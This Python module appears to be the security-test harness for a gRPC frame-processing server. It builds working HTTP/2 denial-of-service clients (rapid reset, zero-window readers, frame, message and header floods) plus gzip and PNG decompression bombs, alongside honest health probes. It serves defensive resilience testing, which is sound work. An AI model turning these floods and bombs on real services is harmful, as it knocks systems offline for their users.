"""What a hostile client sends, built with a real HTTP/2 library (python3-h2, its hpack and
hyperframe), plus the honest probes the security tests run alongside: a gRPC health check and a
short honest stream with grpcio.

Used by tests/security and scripts/attack_soak.py.
"""
from __future__ import annotations

import gzip
import io
import select
import socket
import struct
import threading
import time
from typing import Callable, List, Optional, Tuple

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
import hyperframe.frame as hf

from framepipe.v1 import framepipe_pb2 as pb
from framepipe.v1 import framepipe_pb2_grpc as pbg

PROCESS = "/framepipe.v1.FramePipeline/Process"


def grpc_headers(path: str = PROCESS, extra=()) -> List[Tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "framepipe"),
            ("content-type", "application/grpc"), ("te", "trailers"), *extra]


def grpc_message(payload: bytes, compressed: bool = False, declared: Optional[int] = None) -> bytes:
    """One gRPC length-prefixed message; `declared` lies about its length."""
    n = len(payload) if declared is None else declared
    return struct.pack(">BI", 1 if compressed else 0, n) + payload


def config_msg(max_in_flight: int = 4, stream_id: str = "attack",
               thumbnails: bool = False) -> bytes:
    return pb.ProcessRequest(config=pb.StreamConfig(
        stream_id=stream_id, max_in_flight=max_in_flight,
        include_thumbnail=thumbnails)).SerializeToString()


def raw_frame_msg(seq: int, width: int = 32, height: int = 24) -> bytes:
    return pb.ProcessRequest(frame=pb.Frame(seq=seq, raw=pb.RawImage(
        width=width, height=height, format=pb.PIXEL_FORMAT_GRAY8,
        data=bytes([seq % 256]) * (width * height)))).SerializeToString()


def encoded_frame_msg(seq: int, data: bytes) -> bytes:
    return pb.ProcessRequest(frame=pb.Frame(seq=seq, encoded=data)).SerializeToString()


class H2Client:
    """One HTTP/2 connection to the server, driven by h2's state machine."""

    def __init__(self, port: int, source: str = "127.0.0.1", timeout: float = 10):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout,
                                             source_address=(source, 0))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8", validate_inbound_headers=False))
        self.conn.initiate_connection()
        self.flush()
        self.events: List[h2.events.Event] = []
        self.closed = False  # the server closed the connection (FIN, reset or GOAWAY)

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def send_data(self, stream_id: int, data: bytes, end_stream: bool = False) -> int:
        """Sends as much of `data` as flow control allows now, in frames of the peer's maximum
        size; returns how many bytes went."""
        sent = 0
        while sent < len(data):
            room = min(self.conn.local_flow_control_window(stream_id),
                       self.conn.max_outbound_frame_size, len(data) - sent)
            if room <= 0:
                break
            last = end_stream and sent + room == len(data)
            self.conn.send_data(stream_id, data[sent:sent + room], end_stream=last)
            sent += room
        self.flush()
        return sent

    def open_and_reset(self, n: int) -> int:
        """The rapid-reset pattern: `n` streams opened and reset at once, sent in one write;
        returns how many went before the connection was closed."""
        done = 0
        try:
            for _ in range(n):
                sid = self.conn.get_next_available_stream_id()
                self.conn.send_headers(sid, grpc_headers())
                self.conn.reset_stream(sid)
                done += 1
            self.flush()
        except (h2.exceptions.ProtocolError, OSError):
            self.closed = True
        return done

    def send_raw(self, data: bytes) -> None:
        self.sock.sendall(data)

    def pump(self, seconds: float = 0.2, until: Optional[Callable[[], bool]] = None) -> None:
        """Reads and processes what the server sends, for `seconds` or until `until()`."""
        end = time.time() + seconds
        while time.time() < end and not self.closed and not (until and until()):
            self.sock.settimeout(max(0.01, end - time.time()))
            try:
                data = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except (ConnectionResetError, BrokenPipeError):
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            try:
                self.events += self.conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                break
            self.flush()

    def goaway(self) -> Optional[h2.events.ConnectionTerminated]:
        for e in self.events:
            if isinstance(e, h2.events.ConnectionTerminated):
                return e
        return None

    def trailers(self, stream_id: int) -> Optional[dict]:
        """The stream's grpc-status/grpc-message (trailers, or a trailers-only response)."""
        for e in self.events:
            if isinstance(e, (h2.events.TrailersReceived, h2.events.ResponseReceived)) and \
                    e.stream_id == stream_id:
                d = dict(e.headers)
                if "grpc-status" in d:
                    return d
        return None

    def send_until_answered(self, stream_id: int, data: bytes, seconds: float, wait: float,
                            step: float = 0.02) -> int:
        """Sends `data` as flow control allows, for at most `seconds`, stopping early when the
        server has answered the stream (trailers) or closed the connection; then waits up to
        `wait` seconds for the trailers. Returns the bytes sent."""
        end = time.time() + seconds
        off = 0
        while time.time() < end and self.trailers(stream_id) is None and not self.closed and \
                off < len(data):
            off += self.send_data(stream_id, data[off:])
            self.pump(step)
        self.pump(wait, until=lambda: self.trailers(stream_id) is not None)
        return off

    def events_of(self, kind) -> list:
        return [e for e in self.events if isinstance(e, kind)]

    def messages(self, stream_id: int) -> List[bytes]:
        buf = b"".join(e.data for e in self.events
                       if isinstance(e, h2.events.DataReceived) and e.stream_id == stream_id)
        out = []
        while len(buf) >= 5:
            n = struct.unpack(">I", buf[1:5])[0]
            out.append(buf[5:5 + n])
            buf = buf[5 + n:]
        return out

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


class NonReader:
    """A client that stops reading its results: it tells the server its HTTP/2 receive window
    is 0 (SETTINGS_INITIAL_WINDOW_SIZE) and never opens it, so no result can be written, and
    sends frames on `streams` calls, each asking for a window of `frames`."""

    def __init__(self, port: int, streams: int, frames: int, source: str = "127.0.0.2"):
        import h2.settings
        self.client = H2Client(port, source=source)
        self.client.conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        self.client.flush()
        self.streams = [1 + 2 * k for k in range(streams)]
        self.unsent = {}
        for sid in self.streams:
            self.client.conn.send_headers(sid, grpc_headers())
            self.unsent[sid] = grpc_message(config_msg(max_in_flight=frames)) + b"".join(
                grpc_message(raw_frame_msg(i + 1)) for i in range(frames))

    def push(self, seconds: float, until: Optional[Callable[[], bool]] = None) -> None:
        """Sends frames as the server's flow control lets them in, for `seconds` or until
        `until()`."""
        end = time.time() + seconds
        while time.time() < end and self.unsent and not self.client.closed and \
                not (until and until()):
            for sid in list(self.unsent):
                try:
                    n = self.client.send_data(sid, self.unsent[sid])
                except h2.exceptions.StreamClosedError:  # refused (a per-address cap) or reset
                    n = len(self.unsent[sid])
                self.unsent[sid] = self.unsent[sid][n:]
                if not self.unsent[sid]:
                    del self.unsent[sid]
            self.client.pump(0.05)

    def resets(self) -> List[int]:
        """The streams the server reset."""
        return [e.stream_id for e in self.client.events if isinstance(e, h2.events.StreamReset)]

    def close(self) -> None:
        self.client.close()


def open_watch_calls(port: int, connections: int, per_connection: int = 100,
                     source: str = "127.0.0.2", pump: float = 0.3):
    """`connections` x `per_connection` grpc.health.v1.Health/Watch calls (the health service
    needs no token), each a HEADERS frame and an empty request; left open."""
    conns = []
    for _ in range(connections):
        c = H2Client(port, source=source)
        for k in range(per_connection):
            c.conn.send_headers(1 + 2 * k, grpc_headers("/grpc.health.v1.Health/Watch"))
            c.conn.send_data(1 + 2 * k, grpc_message(b""), end_stream=True)
        c.flush()
        conns.append(c)
    for c in conns:
        c.pump(pump)
    return conns


def unread_message_flood(port: int, path: str, seconds: float = 4, connections: int = 8,
                         calls: int = 8, source: str = "127.0.0.2") -> List[H2Client]:
    """`connections` x `calls` calls of `path` sending empty gRPC messages (5 bytes each) as fast
    as flow control allows, for `seconds`: gRPC 1.51 holds every message a call's handler does
    not read (a health Watch after its request, a reflection stream whose answers go unread).
    Returns the clients (their events say which calls were reset), still open."""
    clients = []
    for _ in range(connections):
        c = H2Client(port, source=source, timeout=2)
        for _ in range(calls):
            c.conn.send_headers(c.conn.get_next_available_stream_id(), grpc_headers(path))
        c.flush()
        clients.append(c)
    empties = b"\0" * (1 << 20)  # 209,715 empty messages
    end = time.time() + seconds
    while time.time() < end and not all(c.closed for c in clients):
        for c in clients:
            if c.closed:
                continue
            for sid in range(1, 2 * calls, 2):
                try:
                    stream = c.conn.streams.get(sid)
                    if stream is not None and stream.open:
                        c.send_data(sid, empties)
                except h2.exceptions.H2Error:
                    pass
                except OSError:  # a server that stopped reading (the flood before the fix)
                    c.closed = True
                    break
            try:
                c.pump(0.002)
            except OSError:
                c.closed = True
    return clients


# Frames that cost a client no flow-control window, for free_frame_flood: WINDOW_UPDATEs (on the
# connection and on a stream), empty DATA frames that do not end their stream, GOAWAYs.
FREE_FRAMES = {
    "window_update": hf.WindowUpdateFrame(0, window_increment=1),
    "stream_window_update": hf.WindowUpdateFrame(1, window_increment=1),
    "empty_data": hf.DataFrame(1, b""),
    "goaway": hf.GoAwayFrame(0, last_stream_id=1),
}


def free_frame_flood(port: int, kind: str, seconds: float = 5,
                     source: str = "127.0.0.2") -> Tuple[H2Client, int]:
    """One connection opens a Process call, then sends nothing but `kind` frames (FREE_FRAMES),
    5,000 per write, reading what the server has answered between writes, for `seconds` or until
    the server closes the connection. Before the guard counted them, gRPC 1.51 aborted within
    about ten seconds of WINDOW_UPDATEs and grew by hundreds of MiB on the others. Returns the
    client (its events hold the GOAWAY) and the frames sent."""
    c = H2Client(port, source=source)
    c.conn.send_headers(1, grpc_headers())
    c.send_data(1, grpc_message(config_msg(stream_id="free-frames")))
    batch = FREE_FRAMES[kind].serialize() * 5000
    sent = 0
    end = time.time() + seconds
    while time.time() < end and not c.closed:
        try:
            c.send_raw(batch)
        except OSError:
            c.closed = True
            break
        sent += 5000
        if select.select([c.sock], [], [], 0)[0]:  # read only what has come: full speed
            c.pump(0.001)
    c.pump(1, until=lambda: c.goaway() is not None)
    return c, sent


def header_flood_frames(stream_id: int, total_bytes: int, frame_bytes: int = 16384) -> bytes:
    """A HEADERS frame and CONTINUATION frames carrying one header block of `total_bytes`: a valid
    HPACK encoding (hpack's encoder, no Huffman) of a request whose last header is huge."""
    block = hpack.Encoder().encode(grpc_headers() + [("x-flood", "a" * total_bytes)],
                                   huffman=False)
    out = []
    first = hf.HeadersFrame(stream_id, data=block[:frame_bytes])
    out.append(first.serialize())
    for off in range(frame_bytes, len(block), frame_bytes):
        cont = hf.ContinuationFrame(stream_id, data=block[off:off + frame_bytes])
        if off + frame_bytes >= len(block):
            cont.flags.add("END_HEADERS")
        out.append(cont.serialize())
    return b"".join(out)


def header_flood(port: int, seconds: float = 4, connections: int = 32,
                 block_bytes: int = 20 << 20) -> None:
    """`connections` threads, each sending one header block of `block_bytes` per connection (in
    1 MiB writes) for `seconds`, reconnecting whenever the server closes one mid-flood."""
    flood = header_flood_frames(1, block_bytes)
    stop = threading.Event()

    def flooder():
        while not stop.is_set():
            try:
                c = H2Client(port, timeout=5)
                for off in range(0, len(flood), 1 << 20):
                    c.send_raw(flood[off:off + (1 << 20)])
                c.close()
            except OSError:
                pass  # closed by the server mid-flood: reconnect and go again

    threads = [threading.Thread(target=flooder) for _ in range(connections)]
    for t in threads:
        t.start()
    time.sleep(seconds)
    stop.set()
    for t in threads:
        t.join()


def gzip_bomb(inflated_bytes: int) -> bytes:
    """A gzip stream of zeros: ~1 MiB of it inflates to 1 GiB."""
    chunk = b"\0" * (1 << 20)
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", compresslevel=9) as z:
        for _ in range(inflated_bytes // len(chunk)):
            z.write(chunk)
    return buf.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    import zlib
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def zeros_deflate(inflated_bytes: int) -> bytes:
    """A zlib stream that inflates to `inflated_bytes` zeros, built fast: one flushed block of
    1 MiB of zeros repeated (a full flush makes each copy self-contained)."""
    import zlib
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(b"\0" * (1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    n = max(1, inflated_bytes // (1 << 20))
    tail = c.flush(zlib.Z_FINISH)
    # zlib header, blocks, end, and the Adler-32 of n MiB of zeros (a = 1, b = n MiB mod 65521).
    adler = ((n * (1 << 20)) % 65521) << 16 | 1
    return b"\x78\xda" + block * n + tail + struct.pack(">I", adler)


def png_of_zeros(width: int, height: int, color: bool = False, inflated: int = 0) -> bytes:
    """A PNG of black pixels whose image data inflates to `inflated` bytes (at least the rows).
    Gray (color type 0) or RGB (2), 8 bits."""
    rows = height * (1 + width * (3 if color else 1))
    rows = -(-rows // (1 << 20)) * (1 << 20)  # whole MiB of zeros: extra zeros after the rows
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2 if color else 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) +
            png_chunk(b"IDAT", zeros_deflate(max(rows, inflated))) + png_chunk(b"IEND", b""))


# ---- honest probes


def health_check(target: str, timeout: float = 3.0) -> Tuple[bool, float, str]:
    """A gRPC health check on a fresh channel, as a load balancer would: (ok, seconds, error)."""
    t0 = time.time()
    ch = grpc.insecure_channel(target, options=[("grpc.use_local_subchannel_pool", 1)])
    try:
        req = b""  # HealthCheckRequest{} is empty
        call = ch.unary_unary("/grpc.health.v1.Health/Check",
                              request_serializer=lambda x: x,
                              response_deserializer=lambda x: x)
        resp = call(req, timeout=timeout)
        # HealthCheckResponse{status=SERVING(1)} encodes as 08 01.
        return resp == b"\x08\x01", time.time() - t0, ""
    except grpc.RpcError as e:
        return False, time.time() - t0, f"{e.code()}: {e.details()}"
    finally:
        ch.close()


def honest_stream(target: str, frames: int = 10, timeout: float = 30) -> Tuple[bool, str]:
    """An honest client: config + raw frames, every result back in order and OK."""
    ch = grpc.insecure_channel(target, options=[("grpc.use_local_subchannel_pool", 1)])
    try:
        stub = pbg.FramePipelineStub(ch)

        def gen():
            yield pb.ProcessRequest(config=pb.StreamConfig(stream_id="honest", max_in_flight=4))
            for s in range(frames):
                yield pb.ProcessRequest.FromString(raw_frame_msg(s + 1))

        got = [(r.seq, r.status) for r in stub.Process(gen(), timeout=timeout)]
        want = [(s + 1, pb.FRAME_STATUS_OK) for s in range(frames)]
        return got == want, "" if got == want else f"results {got}"
    except grpc.RpcError as e:
        return False, f"{e.code()}: {e.details()}"
    finally:
        ch.close()


class Prober:
    """Health checks from another client every `period`, in a thread, while an attack runs."""

    def __init__(self, target: str, period: float = 0.25, timeout: float = 3.0):
        self.target, self.period, self.timeout = target, period, timeout
        self.results: List[Tuple[bool, float, str]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            self.results.append(health_check(self.target, self.timeout))
            self._stop.wait(self.period)

    def stop(self) -> List[Tuple[bool, float, str]]:
        self._stop.set()
        self._thread.join()
        return self.results
